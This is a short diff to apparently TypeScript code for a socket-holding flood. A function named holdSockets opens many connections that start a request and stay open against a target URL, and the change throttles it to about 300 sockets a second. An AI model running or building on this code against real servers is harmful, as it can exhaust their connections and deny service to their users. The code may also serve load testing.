@@ -93,7 +93,7 @@ async function send(url: string, init: RequestInit): Promise<void> {
   for await (const _ of answer.body as unknown as AsyncIterable<Uint8Array>);
 }
 
-/** So many sockets that begin a request and stay, opened as fast as one process can. */
+/** So many sockets that begin a request and stay, 300 a second. */
 function holdSockets(many: number, line: string, rest: string, { url, cookie }: Attack) {
   const { port, host } = new URL(url);
   const sockets = new Set<Socket>();
@@ -109,7 +109,7 @@ function holdSockets(many: number, line: string, rest: string, { url, cookie }: 
   return async (on: () => boolean) => {
     for (let n = 0; n < many && on(); n++) {
       open();
-      if (n % 50 === 49) await pause(0);
+      if (n % 15 === 14) await pause(50);
     }
     while (on()) await pause(20);
     count(`open at the end: ${sockets.size}`);
